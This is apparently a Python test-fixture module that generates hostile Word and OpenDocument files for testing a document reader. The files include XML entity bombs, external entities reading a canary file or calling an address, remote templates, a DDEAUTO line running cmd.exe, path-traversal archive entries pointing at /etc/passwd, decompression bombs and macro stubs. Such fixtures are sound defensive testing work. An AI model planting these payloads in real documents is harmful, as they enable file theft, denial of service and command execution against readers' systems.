"""Word and OpenDocument files that trap a reader: bombs, entities, links outside, loops."""

from __future__ import annotations

import io
import struct
import zipfile

from packages import P, T, W, docx, odt, open_text, relations, word_text
from recipes_page import external, laughs
from recipes_text import Recipe


def _quadratic() -> bytes:
    text = f"<!ENTITY a '{'rire ' * 20_000}'>"
    body = word_text(P + f"<w:p><w:r><w:t>{'&a;' * 20_000}</w:t></w:r></w:p>")
    return f"<?xml version='1.0'?><!DOCTYPE d [{text}]>{body}".encode()


def _nested(inner: str, many: int) -> str:
    return (
        inner.replace("|", P)
        if many == 0
        else ("".join([inner.split("|", maxsplit=1)[0]] * many) + P + "".join([inner.split("|")[1]] * many))
    )


def _marked(pattern: str, many: int) -> str:
    """The same thing many times, each under a number of its own as Word gives them: no packer makes it small."""
    return "".join(pattern.format(f"{number * 2654435761 % 2**32:08X}") for number in range(many))


def _word_table(cells: int) -> str:
    row = _marked(
        "<w:tr w:rsidR='{0}'>" + "<w:tc><w:p><w:r><w:t>eau {0}</w:t></w:r></w:p></w:tc>" * 40 + "</w:tr>", cells // 40
    )
    return f"<w:tbl>{row}</w:tbl>"


def _word_files(canary: str, address: str) -> dict[str, Recipe]:
    table = "<w:tbl><w:tr><w:tc>|</w:tc></w:tr></w:tbl>"
    itself = "<w:p><w:r><w:t>Note</w:t><w:footnoteReference w:id='2'/></w:r></w:p>"
    note = f"<w:footnotes {W}><w:footnote w:id='2'>{itself}</w:footnote></w:footnotes>"
    based = "<w:style w:styleId='{}'><w:basedOn w:val='{}'/></w:style>"
    style = f"<w:styles {W}>{based.format('a', 'b')}{based.format('b', 'a')}</w:styles>"
    linked = (
        "<w:p><w:r><w:object><o:OLEObject xmlns:o='urn:schemas-microsoft-com:office:office' Type='Link' "
        "ProgID='Excel.Sheet' r:id='r0' UpdateMode='Always'/></w:object>"
        "<w:fldSimple w:instr='INCLUDETEXT \"{}\"'/><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>"
    )
    macros = "application/vnd.ms-word.document.macroEnabled.main+xml"
    where = "word/_rels/document.xml.rels"
    return {
        "docx-milliard-de-rires.docx": lambda: docx(
            laughs("d", word_text(P + "<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>"))
        ),
        "docx-entite-quadratique.docx": lambda: docx(_quadratic()),
        "docx-entite-externe.docx": lambda: docx(
            external("d", word_text(P + "<w:p><w:r><w:t>&dehors;</w:t></w:r></w:p>"), f"file://{canary}")
        ),
        "docx-entite-reseau.docx": lambda: docx(
            external("d", word_text(P + "<w:p><w:r><w:t>&dehors;</w:t></w:r></w:p>"), address)
        ),
        "docx-modele-distant.docx": lambda: docx(
            P,
            {
                "word/settings.xml": f"<w:settings {W}><w:attachedTemplate r:id='r0'/></w:settings>".encode(),
                "word/_rels/settings.xml.rels": relations(("attachedTemplate", f"{address}a.dotm")),
                where: relations(("settings", "settings.xml")),
            },
        ),
        "docx-objet-lie.docx": lambda: docx(
            P + linked.format(canary),
            {where: relations(("oleObject", f"file://{canary}"), ("image", f"{address}a.png"))},
        ),
        "docx-relation-vers-le-dehors.docx": lambda: docx(
            P, {where: relations(("styles", "../../../../../../etc/passwd"), ("footnotes", f"/../..{canary}"))}
        ),
        "docx-5000-tableaux-emboites.docx": lambda: docx(_nested(table, 5000)),
        "docx-100-tableaux-emboites.docx": lambda: docx(_nested(table, 100)),
        "docx-tableau-400000-cellules.docx": lambda: docx(_word_table(400_000) + P),
        "docx-million-d-attributs.docx": lambda: docx(
            "<w:p " + " ".join(f"a{n}='1'" for n in range(1_000_000)) + "/>" + P
        ),
        "docx-macros.docm": lambda: docx(
            P * 3,
            {
                "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"Sub AutoOpen()" * 50,
                where: relations(
                    ("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin")
                ),
            },
            macros,
        ),
        "docx-note-dans-elle-meme.docx": lambda: docx(
            "<w:p><w:r><w:t>Appel</w:t><w:footnoteReference w:id='2'/></w:r></w:p>" + P,
            {"word/footnotes.xml": note.encode(), where: relations(("footnotes", "footnotes.xml"))},
        ),
        "docx-styles-en-boucle.docx": lambda: docx(
            "<w:p><w:pPr><w:pStyle w:val='a'/></w:pPr><w:r><w:t>eau</w:t></w:r></w:p>" + P,
            {"word/styles.xml": style.encode(), where: relations(("styles", "styles.xml"))},
        ),
        "docx-choix-sans-choix.docx": lambda: docx(
            "<mc:AlternateContent xmlns:mc='http://schemas.openxmlformats.org/markup-compatibility/2006'/>" + P
        ),
        "docx-million-de-lettres-une-a-une.docx": lambda: docx(
            "<w:p>" + _marked("<w:r w:rsidR='{}'><w:t>a</w:t></w:r>", 300_000) + "</w:p>" + P
        ),
        "docx-million-d-alineas-vides.docx": lambda: docx(_marked("<w:p w:rsidR='{}'/>", 1_000_000) + P),
        "docx-bombe.docx": lambda: docx("<w:p><w:r><w:t>" + " " * 400_000_000 + "</w:t></w:r></w:p>" + P),
        "docx-bombe-dans-une-image.docx": lambda: docx(P * 3, {"word/media/a.png": b"\0" * 200_000_000}),
        "docx-tronque.docx": lambda: docx(P * 500)[:900],
        "docx-precede-d-octets.docx": lambda: b"MZ" + b"\0" * 400 + docx(P * 5),
        "docx-xml-casse.docx": lambda: docx(
            f"<?xml version='1.0'?><w:document {W}><w:body>{P * 3}<w:p><w:r><w:t>eau".encode()
        ),
        "docx-sans-corps.docx": lambda: docx(f"<w:document {W}/>".encode()),
        "docx-taille-mentie.docx": lambda: _lied(
            docx("<w:p><w:r><w:t>" + " " * 300_000_000 + "</w:t></w:r></w:p>" + P)
        ),
    }


def _open_files(canary: str, address: str) -> dict[str, Recipe]:
    cell = "<table:table-cell table:number-columns-repeated='{}'><text:p>eau</text:p></table:table-cell>"
    cells = f"<table:table><table:table-row table:number-rows-repeated='{{}}'>{cell}</table:table-row></table:table>"
    column = "<table:table-cell><text:p>eau {0}</text:p></table:table-cell>"
    table = _marked(f"<table:table-row>{column * 40}</table:table-row>", 10_000)
    return {
        "odt-milliard-de-rires.odt": lambda: odt(laughs("d", open_text(T + "<text:p>&a9;</text:p>"))),
        "odt-entite-externe.odt": lambda: odt(
            external("d", open_text(T + "<text:p>&dehors;</text:p>"), f"file://{canary}")
        ),
        "odt-entite-reseau.odt": lambda: odt(external("d", open_text(T + "<text:p>&dehors;</text:p>"), address)),
        "odt-section-distante.odt": lambda: odt(
            f"<text:section text:name='a'><text:section-source xmlns:xlink='http://www.w3.org/1999/xlink' xlink:href='file://{canary}'/></text:section>"
            + T
        ),
        "odt-milliard-d-espaces.odt": lambda: odt("<text:p>a<text:s text:c='2000000000'/>b</text:p>" + T),
        "odt-cellules-repetees.odt": lambda: odt(cells.format(1_000_000, 1_000_000) + T),
        "odt-tableau-400000-cellules.odt": lambda: odt(f"<table:table>{table}</table:table>" + T),
        "odt-5000-sections-emboitees.odt": lambda: odt("<text:section>" * 5000 + T + "</text:section>" * 5000),
        "odt-200-sections-emboitees.odt": lambda: odt("<text:section>" * 200 + T + "</text:section>" * 200),
        "odt-chemins-remontants.odt": lambda: odt(
            T, {"../../../../evade.txt": b"dehors", "/var/evade.txt": b"dehors", "..\\..\\evade.txt": b"dehors"}
        ),
        "odt-liens-symboliques.odt": lambda: odt(
            T, {"styles.xml": canary.encode(), "meta.xml": b"/etc/passwd"}, ("styles.xml", "meta.xml")
        ),
        "odt-bombe.odt": lambda: odt("<text:p>" + " " * 400_000_000 + "</text:p>"),
        "odt-tronque.odt": lambda: odt(T * 500)[:700],
    }


def _lied(package: bytes) -> bytes:
    """The same package, saying that its largest part is small."""
    with zipfile.ZipFile(io.BytesIO(package)) as whole:
        largest = max(one.file_size for one in whole.infolist())
    return package.replace(struct.pack("<I", largest), struct.pack("<I", 20_000))


def recipes(canary: str, address: str) -> dict[str, Recipe]:
    """The files, by name; `canary` is a file nobody may read, `address` one nobody may call."""
    return _word_files(canary, address) | _open_files(canary, address)


def quick() -> tuple[str, ...]:
    """The names worth trying in every run of the tests."""
    return (
        "docx-milliard-de-rires.docx",
        "docx-entite-externe.docx",
        "docx-5000-tableaux-emboites.docx",
        "docx-note-dans-elle-meme.docx",
        "odt-entite-externe.odt",
        "odt-milliard-d-espaces.odt",
        "docx-macros.docm",
    )
